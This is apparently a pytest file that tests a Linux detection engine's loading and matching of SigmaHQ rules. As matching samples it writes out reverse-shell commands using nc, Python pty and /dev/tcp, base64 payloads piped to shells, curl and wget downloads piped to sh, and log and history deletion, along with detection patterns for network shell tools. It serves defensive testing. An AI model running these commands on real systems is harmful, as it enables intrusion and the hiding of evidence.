"""Sigma rules: the SigmaHQ Linux rules load and match, every modifier, every refusal."""

from __future__ import annotations

import base64
import logging
import textwrap
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import yaml

from app.errors import InputError
from app.rules.model import Rule, View
from app.rules.sigma import FIELDS, KINDS, SigmaLoad, load_sigma
from app.rules.yamlrules import render_actions
from tests.conftest import SIGMA_LINUX

EVALUATED = 132
UNSUPPORTED = {"field DestinationHostname has no mapping for network_connection": 3}


def proc(exe: str | None, cmdline: str | None = None, **more: Any) -> dict[str, Any]:
    """Returns a process as the view holds it; the command line defaults to the exe."""
    line = cmdline if cmdline is not None else exe
    return {
        "key": f"k-{exe}",
        "pid": 4242,
        "ppid": 1,
        "exe": exe,
        "args": line.split() if line else None,
        "cmdline": line,
        "user": "alice",
        "uid": 1000,
        "cwd": "/home/alice",
        **more,
    }


def view(
    kind: str = "process_exec",
    process: dict[str, Any] | None = None,
    parent: dict[str, Any] | None = None,
    **event: Any,
) -> View:
    """Returns an event view (app.rules.model) with the given event fields."""
    return {
        "event": {"id": "ev-1", "kind": kind, "host_id": "node-1", "source": "test", **event},
        "process": process or {},
        "parent": parent,
        "ancestors": [],
        "container": None,
        "pod": None,
    }


def exec_view(
    exe: str, cmdline: str | None = None, parent: dict[str, Any] | None = None, **more: Any
) -> View:
    return view("process_exec", proc(exe, cmdline, **more), parent)


def file_view(path: str, exe: str = "/usr/bin/tee", kind: str = "file_create", **more: Any) -> View:
    return view(kind, proc(exe), path=path, **more)


def net_view(
    dst_ip: str,
    dst_port: int,
    exe: str = "/usr/bin/bash",
    kind: str = "network_connect",
    src_ip: str = "10.0.0.7",
    src_port: int = 40000,
) -> View:
    return view(
        kind,
        proc(exe),
        protocol="tcp",
        family="inet6" if ":" in dst_ip else "inet",
        src_ip=src_ip,
        src_port=src_port,
        dst_ip=dst_ip,
        dst_port=dst_port,
    )


@pytest.fixture(scope="module")
def community() -> SigmaLoad:
    return load_sigma([SIGMA_LINUX])


@pytest.fixture(scope="module")
def by_sigma_id(community: SigmaLoad) -> dict[str, Rule]:
    return {rule.id.removeprefix("sigma."): rule for rule in community.rules}


def rule_documents(directory: Path) -> int:
    """Counts the Sigma rule documents (not collection actions or filters) under a directory."""
    count = 0
    for path in directory.rglob("*.yml"):
        for doc in yaml.safe_load_all(path.read_text(encoding="utf-8")):
            if isinstance(doc, dict) and "action" not in doc and "filter" not in doc:
                count += 1
    return count


# --- the community rules ------------------------------------------------------------


def test_every_community_rule_is_either_evaluated_or_reported(community: SigmaLoad) -> None:
    assert rule_documents(SIGMA_LINUX) == 135
    assert len(community.rules) + len(community.unsupported) == 135
    assert len(community.rules) == EVALUATED
    grouped = Counter(reason for _, reason in community.unsupported)
    print("\nSigma Linux rules not evaluated, by reason:")
    for reason, count in grouped.most_common():
        print(f"  {count:3d}  {reason}")
    assert grouped == UNSUPPORTED


def test_community_rules_compile_into_the_rule_model(community: SigmaLoad) -> None:
    ids = [rule.id for rule in community.rules]
    assert len(ids) == len(set(ids))
    for rule in community.rules:
        assert rule.id.startswith("sigma.")
        assert rule.source.startswith("sigma:") and rule.source.endswith(".yml")
        assert rule.kinds in KINDS.values()
        assert rule.severity in ("info", "low", "medium", "high", "critical")
        assert rule.tactic is None or rule.tactic.replace("_", "").isalpha()
        assert rule.technique is None or rule.technique.startswith("T")
        assert rule.description and "Detection Rule License" in rule.description
        assert not rule.matches({"event": {"kind": "process_exec"}, "process": {}})


def test_metadata_of_a_community_rule(by_sigma_id: dict[str, Rule]) -> None:
    rule = by_sigma_id["7f734ed0-4f47-46c0-837f-6ee62505abd9"]  # netcat reverse shell
    assert rule.title == "Potential Netcat Reverse Shell Execution"
    assert rule.severity == "high"
    assert (rule.tactic, rule.technique) == ("execution", "T1059")
    assert rule.kinds == frozenset({"process_exec"})
    assert rule.source == "sigma:proc_creation_lnx_netcat_reverse_shell.yml"
    assert "@d4ns4n_" in (rule.description or "")
    hit = exec_view("/usr/bin/nc", "nc 203.0.113.9 4444 -e /bin/bash")
    assert render_actions(rule, hit)[0] == (
        "Review process 4242 (/usr/bin/nc) on host node-1: nc 203.0.113.9 4444 -e /bin/bash"
    )


SAMPLES: list[tuple[str, str, View, View]] = [
    (
        "ba592c6d-6888-43c3-b8c6-689b8fe47337",
        "base64 decoded and piped to a shell",
        exec_view("/usr/bin/bash", "bash -c echo aWQ= | base64 -d | bash"),
        exec_view("/usr/bin/base64", "base64 -d payload.txt"),
    ),
    (
        "7f734ed0-4f47-46c0-837f-6ee62505abd9",
        "netcat reverse shell",
        exec_view("/usr/bin/nc", "nc 203.0.113.9 4444 -e /bin/bash"),
        exec_view("/usr/bin/nc", "nc -zv 203.0.113.9 22"),
    ),
    (
        "c2e234de-03a3-41e1-b39a-1e56dc17ba67",
        "crontab removal",
        exec_view("/usr/bin/crontab", "crontab -r"),
        exec_view("/usr/bin/crontab", "crontab -l"),
    ),
    (
        "312b42b1-bded-4441-8b58-163a3af58775",
        "execution from /tmp, nextcloud filtered out",
        exec_view("/tmp/.x/kdevtmpfsi"),
        exec_view("/tmp/.mount_Nextcloud/usr/bin/nextcloud"),
    ),
    (
        "32e62bc7-3de0-4bb1-90af-532978fe42c0",
        "python reverse shell via pty and socket",
        exec_view(
            "/usr/bin/python3.11",
            "python3 -c import socket,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
            "pty.spawn('/bin/sh')",
        ),
        exec_view("/usr/bin/python3.11", "python3 -c import pty;pty.spawn('/bin/bash')"),
    ),
    (
        "1182f3b3-e716-4efa-99ab-d2685d04360f",
        "shell history deleted",
        exec_view("/usr/bin/rm", "rm -f /root/.bash_history"),
        exec_view("/usr/bin/rm", "rm -f /tmp/build.log"),
    ),
    (
        "5cd16c8f-44a6-4654-81e7-a84d6db507d4",
        "execution from /dev/shm",
        exec_view("/dev/shm/kworker"),
        exec_view("/usr/sbin/kworker"),
    ),
    (
        "d292e0af-9a18-420c-9525-ec0ac3936892",
        "java spawning a shell",
        exec_view("/bin/sh", "/bin/sh -c id", parent=proc("/usr/lib/jvm/bin/java")),
        exec_view("/bin/sh", "/bin/sh -c id", parent=proc("/usr/sbin/sshd")),
    ),
    (
        "fe2f9663-41cb-47e2-b954-8a228f3b9dff",
        "base64 shebang on the command line",
        exec_view("/usr/bin/bash", "bash -c echo IyEvYmluL2Jhc2gKaWQK | base64 -d > /tmp/x"),
        exec_view("/usr/bin/bash", "bash -c echo aGVsbG8K | base64 -d"),
    ),
    (
        "818f7b24-0fba-4c49-a073-8b755573b9c7",
        "web server running recon commands",
        exec_view("/usr/bin/whoami", parent=proc("/usr/sbin/nginx")),
        exec_view("/usr/bin/whoami", parent=proc("/usr/bin/bash")),
    ),
    (
        "21541900-27a9-4454-9c4c-3f0a4240344a",
        "OMIGOD: root shell in the SCX tmp directory",
        exec_view("/bin/sh", "/bin/sh -c id", user="root", uid=0, cwd="/var/opt/microsoft/scx/tmp"),
        exec_view(
            "/bin/sh", "/bin/sh -c id", user="scx", uid=998, cwd="/var/opt/microsoft/scx/tmp"
        ),
    ),
    (
        "3fcc9b35-39e4-44c0-a2ad-9e82b6902b31",
        "syslog removed",
        exec_view("/usr/bin/rm", "rm -f /var/log/syslog"),
        exec_view("/usr/bin/cat", "cat /var/log/syslog"),
    ),
    (
        "bed26dea-4525-47f4-b24a-76e30e44ffb0",
        "auditctl -D (regex, case-sensitive)",
        exec_view("/usr/sbin/auditctl", "auditctl -D"),
        exec_view("/usr/sbin/auditctl", "auditctl -d exit,always -S open"),
    ),
    (
        "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4",
        "wget -O into /tmp (regex, case-sensitive)",
        exec_view("/usr/bin/wget", "wget http://203.0.113.9/x -O /tmp/x"),
        exec_view("/usr/bin/wget", "wget http://203.0.113.9/x -o /tmp/wget.log"),
    ),
    (
        "43e26eb5-cd58-48d1-8ce9-a273f5d298d8",
        "ls of inode numbers of / (two regexes)",
        exec_view("/usr/bin/ls", "ls -lid /"),
        exec_view("/usr/bin/ls", "ls -la /"),
    ),
    (
        "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
        "bash connecting out, not to localhost",
        net_view("203.0.113.9", 4444),
        net_view("127.0.0.1", 4444),
    ),
    (
        "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376",
        "callback to a known malware port, private ranges filtered out",
        net_view("203.0.113.9", 4444, exe="/tmp/agent"),
        net_view("10.20.30.40", 4444, exe="/tmp/agent"),
    ),
    (
        "ddb26b76-4447-4807-871f-1b035b2bfa5d",
        "file written in /etc/sudoers.d, dpkg filtered out",
        file_view("/etc/sudoers.d/90-backdoor"),
        file_view("/etc/sudoers.d/README.dpkg-new", exe="/usr/bin/dpkg"),
    ),
    (
        "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05",
        "new cron file, packaged ones filtered out",
        file_view("/etc/cron.d/updater"),
        file_view("/etc/cron.daily/apt", exe="/usr/bin/dpkg"),
    ),
    (
        "35a05c60-9012-49b6-a11f-6bab741c9f74",
        "wget writing into /tmp",
        file_view("/tmp/payload.elf", exe="/usr/bin/wget"),
        file_view("/tmp/payload.elf", exe="/usr/bin/curl"),
    ),
    (
        "13f08f54-e705-4498-91fd-cce9d9cee9f1",
        "shell script in /etc/profile.d",
        file_view("/etc/profile.d/zz-persist.sh"),
        file_view("/etc/profile.d/README.txt"),
    ),
]


def test_the_sample_spans_the_three_categories(by_sigma_id: dict[str, Rule]) -> None:
    assert len(SAMPLES) >= 15
    assert {by_sigma_id[sid].kinds for sid, *_ in SAMPLES} == set(KINDS.values())


@pytest.mark.parametrize(
    ("sigma_id", "positive", "negative"),
    [pytest.param(sid, pos, neg, id=what) for sid, what, pos, neg in SAMPLES],
)
def test_community_rule_matches_its_attack_and_not_the_lookalike(
    by_sigma_id: dict[str, Rule], sigma_id: str, positive: View, negative: View
) -> None:
    rule = by_sigma_id[sigma_id]
    assert rule.matches(positive)
    assert not rule.matches(negative)


def test_a_process_rule_does_not_fire_on_other_kinds(by_sigma_id: dict[str, Rule]) -> None:
    rule = by_sigma_id["5cd16c8f-44a6-4654-81e7-a84d6db507d4"]  # exec from /dev/shm
    assert rule.matches(exec_view("/dev/shm/x"))
    assert not rule.matches(view("file_open", proc("/dev/shm/x"), path="/etc/passwd"))


def test_sudoers_rule_sees_the_new_name_of_a_rename(by_sigma_id: dict[str, Rule]) -> None:
    rule = by_sigma_id["ddb26b76-4447-4807-871f-1b035b2bfa5d"]
    moved_in = file_view("/tmp/x", kind="file_rename", target_path="/etc/sudoers.d/x")
    moved_out = file_view("/etc/sudoers.d/x", kind="file_rename", target_path="/tmp/x")
    assert rule.matches(moved_in)
    assert not rule.matches(moved_out)


def test_callback_rule_ignores_accepted_connections(by_sigma_id: dict[str, Rule]) -> None:
    rule = by_sigma_id["dbfc7c98-04ab-4ab7-aa94-c74d22aa7376"]
    inbound = net_view("203.0.113.9", 51000, kind="network_accept", src_port=4444)
    assert not rule.matches(inbound)  # Initiated is false
    assert not rule.matches(net_view("::1", 4444, exe="/tmp/agent"))  # loopback, IPv6
    assert rule.matches(net_view("2001:db8::9", 4444, exe="/tmp/agent"))


# --- synthetic rules: every modifier ------------------------------------------------


RULE_ID = "5b0d6b65-1d1f-4bfa-9a8f-000000000001"


def sigma_text(
    detection: str, category: str = "process_creation", extra: str = "", rule_id: str = RULE_ID
) -> str:
    body = textwrap.indent(textwrap.dedent(detection).strip(), "    ")
    return (
        f"title: Synthetic\nid: {rule_id}\nstatus: test\n"
        f"logsource:\n    product: linux\n    category: {category}\n"
        f"detection:\n{body}\nlevel: high\n{textwrap.dedent(extra)}"
    )


def load_text(tmp_path: Path, text: str, name: str = "rule.yml") -> SigmaLoad:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return load_sigma([path])


def compile_rule(tmp_path: Path, detection: str, category: str = "process_creation") -> Rule:
    loaded = load_text(tmp_path, sigma_text(detection, category))
    assert loaded.unsupported == []
    (rule,) = loaded.rules
    return rule


def test_plain_values_match_whole_and_case_insensitively(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "selection:\n  Image: /usr/bin/CURL\ncondition: selection")
    assert rule.matches(exec_view("/usr/bin/curl"))
    assert not rule.matches(exec_view("/usr/bin/curl2"))
    assert not rule.matches(exec_view("/opt/usr/bin/curl"))


def test_wildcards_and_their_escapes(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "selection:\n  CommandLine: 'curl * | ?h'\ncondition: selection")
    assert rule.matches(exec_view("/usr/bin/curl", "curl http://x/a.sh | sh"))
    assert rule.matches(exec_view("/usr/bin/curl", "CURL http://x/a.sh | ZH"))
    assert not rule.matches(exec_view("/usr/bin/curl", "curl http://x/a.sh | bash"))
    literal = compile_rule(tmp_path, "selection:\n  CommandLine: 'echo \\*'\ncondition: selection")
    assert literal.matches(exec_view("/usr/bin/echo", "echo *"))
    assert not literal.matches(exec_view("/usr/bin/echo", "echo hello"))


def test_contains_startswith_endswith(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path,
        """
        selection:
          CommandLine|contains: 'chmod +x'
          Image|startswith: /usr/
          CurrentDirectory|endswith: /tmp
        condition: selection
        """,
    )
    assert rule.matches(exec_view("/usr/bin/chmod", "chmod +x a.out", cwd="/var/tmp"))
    assert not rule.matches(exec_view("/usr/bin/chmod", "chmod +x a.out", cwd="/tmp/x"))
    assert not rule.matches(exec_view("/bin/chmod", "chmod +x a.out", cwd="/tmp"))
    assert not rule.matches(exec_view("/usr/bin/chmod", "chmod 644 a.out", cwd="/tmp"))


def test_a_list_is_an_or_and_all_makes_it_an_and(tmp_path: Path) -> None:
    any_of = compile_rule(tmp_path, "sel:\n  CommandLine|contains: [-e, -c]\ncondition: sel")
    all_of = compile_rule(tmp_path, "sel:\n  CommandLine|contains|all: [-e, -c]\ncondition: sel")
    assert any_of.matches(exec_view("/usr/bin/nc", "nc -e sh"))
    assert not all_of.matches(exec_view("/usr/bin/nc", "nc -e sh"))
    assert all_of.matches(exec_view("/usr/bin/nc", "nc -c x -e sh"))


def test_a_list_of_maps_is_an_or(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path,
        """
        selection:
          - Image|endswith: /nc
          - CommandLine|contains: /dev/tcp/
        condition: selection
        """,
    )
    assert rule.matches(exec_view("/usr/bin/nc", "nc"))
    assert rule.matches(exec_view("/usr/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/80"))
    assert not rule.matches(exec_view("/usr/bin/bash", "bash"))


def test_cased(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "sel:\n  CommandLine|contains|cased: ' -R '\ncondition: sel")
    assert rule.matches(exec_view("/usr/bin/ls", "ls -R /"))
    assert not rule.matches(exec_view("/usr/bin/ls", "ls -r /"))


def test_neq(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "sel:\n  User|neq: root\ncondition: sel")
    assert rule.matches(exec_view("/usr/bin/id", user="alice"))
    assert not rule.matches(exec_view("/usr/bin/id", user="ROOT"))


def test_re_is_a_case_sensitive_search_with_flags(tmp_path: Path) -> None:
    plain = compile_rule(tmp_path, "sel:\n  CommandLine|re: 'curl\\s+-k'\ncondition: sel")
    assert plain.matches(exec_view("/usr/bin/curl", "sudo curl  -k https://x"))  # not anchored
    assert not plain.matches(exec_view("/usr/bin/curl", "CURL -k https://x"))
    ignore = compile_rule(tmp_path, "sel:\n  CommandLine|re|i: '^curl\\s+-k'\ncondition: sel")
    assert ignore.matches(exec_view("/usr/bin/curl", "CURL -k https://x"))
    assert not ignore.matches(exec_view("/usr/bin/curl", "sudo curl -k https://x"))
    multi = compile_rule(tmp_path, "sel:\n  CommandLine|re|m: '^sh$'\ncondition: sel")
    assert multi.matches(exec_view("/usr/bin/bash", "bash\nsh\n"))
    assert not compile_rule(tmp_path, "sel:\n  CommandLine|re: '^sh$'\ncondition: sel").matches(
        exec_view("/usr/bin/bash", "bash\nsh\n")
    )
    dotall = compile_rule(tmp_path, "sel:\n  CommandLine|re|s: 'a.b'\ncondition: sel")
    assert dotall.matches(exec_view("/usr/bin/x", "a\nb"))
    assert not compile_rule(tmp_path, "sel:\n  CommandLine|re: 'a.b'\ncondition: sel").matches(
        exec_view("/usr/bin/x", "a\nb")
    )


def test_cidr(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path,
        """
        selection:
          DestinationIp|cidr: [169.254.0.0/16, 'fd00:ec2::/32']
        condition: selection
        """,
        "network_connection",
    )
    assert rule.matches(net_view("169.254.169.254", 80))
    assert rule.matches(net_view("::ffff:169.254.169.254", 80))  # IPv4-mapped
    assert rule.matches(net_view("fd00:ec2::254", 80))
    assert not rule.matches(net_view("169.255.0.1", 80))
    assert not rule.matches(view("network_connect", proc("/usr/bin/curl"), dst_ip="not-an-ip"))


def test_base64(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "sel:\n  CommandLine|base64|contains: whoami\ncondition: sel")
    assert rule.matches(exec_view("/usr/bin/bash", "echo d2hvYW1p | base64 -d | sh"))
    assert not rule.matches(exec_view("/usr/bin/bash", "echo D2HVYW1P | base64 -d | sh"))


@pytest.mark.parametrize("prefix", ["", "x", "xy"])
def test_base64offset_finds_the_value_at_every_offset(tmp_path: Path, prefix: str) -> None:
    rule = compile_rule(
        tmp_path, "sel:\n  CommandLine|base64offset|contains: 'curl http'\ncondition: sel"
    )
    encoded = base64.b64encode(f"{prefix}curl http://203.0.113.9/x | sh".encode()).decode()
    assert rule.matches(exec_view("/usr/bin/bash", f"bash -c echo {encoded} | base64 -d | sh"))
    other = base64.b64encode(f"{prefix}wget http://203.0.113.9/x".encode()).decode()
    assert not rule.matches(exec_view("/usr/bin/bash", f"bash -c echo {other} | base64 -d"))


def test_wide_under_base64offset(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path, "sel:\n  CommandLine|wide|base64offset|contains: whoami\ncondition: sel"
    )
    encoded = base64.b64encode("run whoami now".encode("utf-16le")).decode()
    assert rule.matches(exec_view("/usr/bin/pwsh", f"pwsh -enc {encoded}"))
    plain = base64.b64encode(b"run whoami now").decode()
    assert not rule.matches(exec_view("/usr/bin/pwsh", f"pwsh -enc {plain}"))


def test_windash(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "sel:\n  CommandLine|windash|contains: ' -exec'\ncondition: sel")
    assert rule.matches(exec_view("/usr/bin/find", "find . -exec sh ;"))
    assert rule.matches(exec_view("/usr/bin/find", "find . /exec sh ;"))
    assert not rule.matches(exec_view("/usr/bin/find", "find . -name x"))


def test_exists_and_null(tmp_path: Path) -> None:
    exists = compile_rule(tmp_path, "sel:\n  ParentImage|exists: true\ncondition: sel")
    missing = compile_rule(tmp_path, "sel:\n  ParentImage|exists: false\ncondition: sel")
    null = compile_rule(tmp_path, "sel:\n  ParentImage: null\ncondition: sel")
    orphan, child = exec_view("/usr/bin/id"), exec_view("/usr/bin/id", parent=proc("/bin/sh"))
    assert exists.matches(child) and not exists.matches(orphan)
    assert missing.matches(orphan) and not missing.matches(child)
    assert null.matches(orphan) and not null.matches(child)


def test_numbers_compare_numerically(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path,
        """
        selection:
          DestinationPort: 4444
          SourcePort|gte: 1024
          ProcessId|lt: 5000
        condition: selection
        """,
        "network_connection",
    )
    assert rule.matches(net_view("203.0.113.9", 4444))
    assert not rule.matches(net_view("203.0.113.9", 4445))
    assert not rule.matches(net_view("203.0.113.9", 4444, src_port=80))
    quoted = compile_rule(
        tmp_path, "sel:\n  DestinationPort: '4444'\ncondition: sel", "network_connection"
    )
    assert quoted.matches(net_view("203.0.113.9", 4444))
    gt = compile_rule(tmp_path, "sel:\n  LogonId|gt: 999\ncondition: sel")
    lte = compile_rule(tmp_path, "sel:\n  LogonId|lte: 0\ncondition: sel")
    assert gt.matches(exec_view("/usr/bin/id", uid=1000))
    assert not gt.matches(exec_view("/usr/bin/id", uid=0))
    assert lte.matches(exec_view("/usr/bin/id", uid=0))
    assert not lte.matches(exec_view("/usr/bin/id"))


def test_fieldref(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "sel:\n  ParentImage|fieldref: Image\ncondition: sel")
    assert rule.matches(exec_view("/usr/bin/bash", parent=proc("/usr/bin/bash")))
    assert not rule.matches(exec_view("/usr/bin/bash", parent=proc("/usr/sbin/sshd")))
    assert not rule.matches(exec_view("/usr/bin/bash"))


def test_keywords_search_the_command_line(tmp_path: Path) -> None:
    rule = compile_rule(tmp_path, "keywords:\n  - mkfifo\n  - 'nc -e'\ncondition: keywords")
    assert rule.matches(exec_view("/usr/bin/sh", "sh -c mkfifo /tmp/f"))
    assert rule.matches(exec_view("/usr/bin/ncat", "NC -E /bin/sh"))
    assert not rule.matches(exec_view("/usr/bin/sh", "sh -c id"))
    on_files = compile_rule(
        tmp_path, "keywords: authorized_keys\ncondition: keywords", "file_event"
    )
    assert on_files.matches(file_view("/root/.ssh/authorized_keys"))


def test_condition_forms(tmp_path: Path) -> None:
    detection = """
        sel_img:
          Image|endswith: /curl
        sel_cli:
          CommandLine|contains: ' -k '
        filter_local:
          CommandLine|contains: localhost
        condition: {condition}
        """
    insecure = exec_view("/usr/bin/curl", "curl -k https://203.0.113.9")
    local = exec_view("/usr/bin/curl", "curl -k https://localhost")
    plain = exec_view("/usr/bin/curl", "curl https://203.0.113.9")
    other = exec_view("/usr/bin/wget", "wget -k https://203.0.113.9")
    expect = {
        "all of sel_* and not 1 of filter_*": (True, False, False, False),
        "1 of sel_*": (True, True, True, True),
        "all of them": (False, True, False, False),
        "1 of them": (True, True, True, True),
        "sel_img and not (sel_cli or filter_local)": (False, False, True, False),
        "not sel_img": (False, False, False, True),
    }
    for condition, expected in expect.items():
        rule = compile_rule(tmp_path, detection.format(condition=condition))
        assert tuple(rule.matches(v) for v in (insecure, local, plain, other)) == expected, (
            condition
        )


def test_several_conditions_are_ored(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path,
        """
        a:
          Image|endswith: /nc
        b:
          Image|endswith: /socat
        condition:
          - a
          - b
        """,
    )
    assert rule.matches(exec_view("/usr/bin/nc")) and rule.matches(exec_view("/usr/bin/socat"))
    assert not rule.matches(exec_view("/usr/bin/ssh"))


def test_network_fields_follow_sigma_not_the_view_on_accepts(tmp_path: Path) -> None:
    rule = compile_rule(
        tmp_path,
        """
        selection:
          Initiated: 'false'
          SourceIp: 203.0.113.9
          DestinationPort: 22
          DestinationIsIpv6: 'false'
          Protocol: TCP
        condition: selection
        """,
        "network_connection",
    )
    accepted = net_view("203.0.113.9", 51000, kind="network_accept", src_port=22)
    assert rule.matches(accepted)
    assert not rule.matches(net_view("203.0.113.9", 22))  # the process connected out


def test_every_mapped_field_reads_the_view(tmp_path: Path) -> None:
    parent = proc("/usr/sbin/sshd", "sshd: alice", user="root", pid=77)
    full = proc("/usr/bin/bash", "bash -i", cwd="/root", session_id=3, pid=4242, ppid=77)
    expected = {
        "Image": "/usr/bin/bash",
        "CommandLine": "bash -i",
        "CurrentDirectory": "/root",
        "User": "alice",
        "LogonId": 1000,
        "ProcessId": 4242,
        "ParentProcessId": 77,
        "TerminalSessionId": 3,
        "ParentImage": "/usr/sbin/sshd",
        "ParentCommandLine": "sshd: alice",
        "ParentUser": "root",
        "TargetFilename": "/etc/passwd",
        "Initiated": "true",
        "SourceIp": "10.0.0.7",
        "SourcePort": 40000,
        "DestinationIp": "203.0.113.9",
        "DestinationPort": 443,
        "SourceIsIpv6": "false",
        "DestinationIsIpv6": "false",
        "Protocol": "tcp",
    }
    event = {
        "id": "e",
        "kind": "network_connect",
        "path": "/etc/passwd",
        "protocol": "tcp",
        "src_ip": "10.0.0.7",
        "src_port": 40000,
        "dst_ip": "203.0.113.9",
        "dst_port": 443,
    }
    the_view = {"event": event, "process": full, "parent": parent}
    seen = {name: get(the_view) for fields in FIELDS.values() for name, get in fields.items()}
    assert seen == expected


def test_sigma_filters_apply_to_the_rules_they_select(tmp_path: Path) -> None:
    (tmp_path / "rule.yml").write_text(
        sigma_text("sel:\n  Image|startswith: /tmp/\ncondition: sel"), encoding="utf-8"
    )
    (tmp_path / "filter.yml").write_text(
        textwrap.dedent(
            f"""\
            title: Our build agent runs from /tmp
            logsource:
                product: linux
                category: process_creation
            filter:
                rules:
                    - {RULE_ID}
                selection:
                    Image: /tmp/buildkite-agent
                condition: not selection
            """
        ),
        encoding="utf-8",
    )
    loaded = load_sigma([tmp_path])
    assert loaded.unsupported == []
    (rule,) = loaded.rules
    assert rule.matches(exec_view("/tmp/xmrig"))
    assert not rule.matches(exec_view("/tmp/buildkite-agent"))


# --- metadata ---------------------------------------------------------------------


def test_metadata_from_level_and_tags(tmp_path: Path) -> None:
    text = sigma_text(
        "sel:\n  Image|endswith: /nc\ncondition: sel",
        extra="""\
        author: Jane Doe
        description: Netcat runs.
        falsepositives:
            - Admins testing ports {sometimes}
            - Unknown
        tags:
            - attack.command-and-control
            - attack.t1095
            - attack.execution
            - attack.t1059.004
            - attack.s0508
        """,
    ).replace("level: high", "level: informational")
    (rule,) = load_text(tmp_path, text, "net_cat.yml").rules
    assert rule.id == f"sigma.{RULE_ID}"
    assert rule.severity == "info"
    assert (rule.tactic, rule.technique) == ("command_and_control", "T1095")
    assert rule.source == "sigma:net_cat.yml"
    assert rule.description == (
        f"Netcat runs.\n\nSigma rule {RULE_ID} by Jane Doe, Detection Rule License (DRL) 1.1."
    )
    last = rule.actions[-1]
    assert last.text == "Rule out the known false positives: Admins testing ports (sometimes)"
    assert last.type == "REVIEW"
    assert not rule.compromises


def test_a_rule_without_id_or_level(tmp_path: Path) -> None:
    text = "title: No id\nlogsource:\n  product: linux\n  category: file_event\n"
    text += "detection:\n  sel:\n    TargetFilename: /tmp/rootlog\n  condition: sel\n"
    (rule,) = load_text(tmp_path, text, "rootlog.yml").rules
    assert rule.id == "sigma.rootlog"
    assert rule.severity == "medium"
    assert rule.kinds == frozenset({"file_create", "file_write", "file_rename"})


def test_a_file_of_several_rules(tmp_path: Path) -> None:
    one = sigma_text("sel:\n  Image: /a\ncondition: sel", rule_id=RULE_ID)
    two = sigma_text("sel:\n  Hashes: x\ncondition: sel", rule_id=RULE_ID.replace("1", "2"))
    loaded = load_text(tmp_path, f"{one}---\n{two}", "pair.yml")
    assert len(loaded.rules) == 1
    assert loaded.unsupported == [
        (f"{tmp_path / 'pair.yml'}#2", "field Hashes has no mapping for process_creation")
    ]


# --- what is refused, and why ----------------------------------------------------------


@pytest.mark.parametrize(
    ("detection", "category", "reason"),
    [
        pytest.param(
            "sel:\n  OriginalFileName: nc.exe\ncondition: sel",
            "process_creation",
            "field OriginalFileName has no mapping for process_creation",
            id="unmapped-field",
        ),
        pytest.param(
            "a:\n  Image|endswith: /nc\nb:\n  Hashes|contains: MD5=\ncondition: a or b",
            "process_creation",
            "field Hashes has no mapping for process_creation",
            id="unmapped-field-in-an-or-branch",
        ),
        pytest.param(
            "a:\n  Image|endswith: /curl\nb:\n  DestinationHostname: x\ncondition: a and not b",
            "network_connection",
            "field DestinationHostname has no mapping for network_connection",
            id="unmapped-field-in-a-filter",
        ),
        pytest.param(
            "sel:\n  TargetFilename: /tmp/x\ncondition: sel",
            "process_creation",
            "field TargetFilename has no mapping for process_creation",
            id="field-of-another-category",
        ),
        pytest.param(
            "sel:\n  CommandLine|expand: '%admin_tools%'\ncondition: sel",
            "process_creation",
            "modifier expand: placeholders need a processing pipeline",
            id="expand",
        ),
        pytest.param(
            "sel:\n  ProcessId|hour: 3\ncondition: sel",
            "process_creation",
            "modifier hour: no timestamp field is mapped",
            id="time-modifier",
        ),
        pytest.param(
            "sel:\n  CommandLine|wide|contains: whoami\ncondition: sel",
            "process_creation",
            "modifier wide without base64: the view holds decoded text",
            id="wide-without-base64",
        ),
        pytest.param(
            "sel:\n  CommandLine|sounds_like: x\ncondition: sel",
            "process_creation",
            "parse error: Unknown modifier 'sounds_like'",
            id="unknown-modifier",
        ),
        pytest.param(
            "sel:\n  Image: /x\ncondition: sel and nothing",
            "process_creation",
            "condition error: Detection 'nothing' not defined in detections",
            id="undefined-identifier",
        ),
        pytest.param(
            "sel:\n  QueryName: evil.test\ncondition: sel",
            "dns_query",
            "logsource category dns_query is not evaluated "
            "(only process_creation, network_connection, file_event)",
            id="other-category",
        ),
    ],
)
def test_unsupported_rules_are_reported_with_the_reason(
    tmp_path: Path, detection: str, category: str, reason: str
) -> None:
    loaded = load_text(tmp_path, sigma_text(detection, category))
    assert loaded.rules == []
    assert loaded.unsupported == [(str(tmp_path / "rule.yml"), reason)]


def test_other_log_sources_are_reported(tmp_path: Path) -> None:
    windows = sigma_text("sel:\n  Image: x\ncondition: sel").replace("linux", "windows")
    auditd = sigma_text("sel:\n  type: EXECVE\ncondition: sel").replace(
        "    category: process_creation", "    service: auditd"
    )
    assert load_text(tmp_path, windows).unsupported[0][1] == (
        "logsource product windows: only linux is evaluated"
    )
    assert load_text(tmp_path, auditd).unsupported[0][1] == (
        "logsource service auditd is not evaluated"
    )


def test_correlation_rules_are_reported(tmp_path: Path) -> None:
    base = sigma_text("sel:\n  Image|endswith: /su\ncondition: sel").replace(
        "title: Synthetic", "title: Synthetic\nname: su_run"
    )
    correlation = textwrap.dedent(
        """\
        title: Many su
        correlation:
            type: event_count
            rules: [su_run]
            group-by: [User]
            timespan: 5m
            condition:
                gte: 10
        level: high
        """
    )
    loaded = load_text(tmp_path, f"{base}---\n{correlation}")
    assert len(loaded.rules) == 1
    assert loaded.unsupported == [
        (
            f"{tmp_path / 'rule.yml'}#2",
            "correlation rule: counting events over time is not evaluated",
        )
    ]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        pytest.param("title: [unclosed\n", "parse error: not YAML", id="not-yaml"),
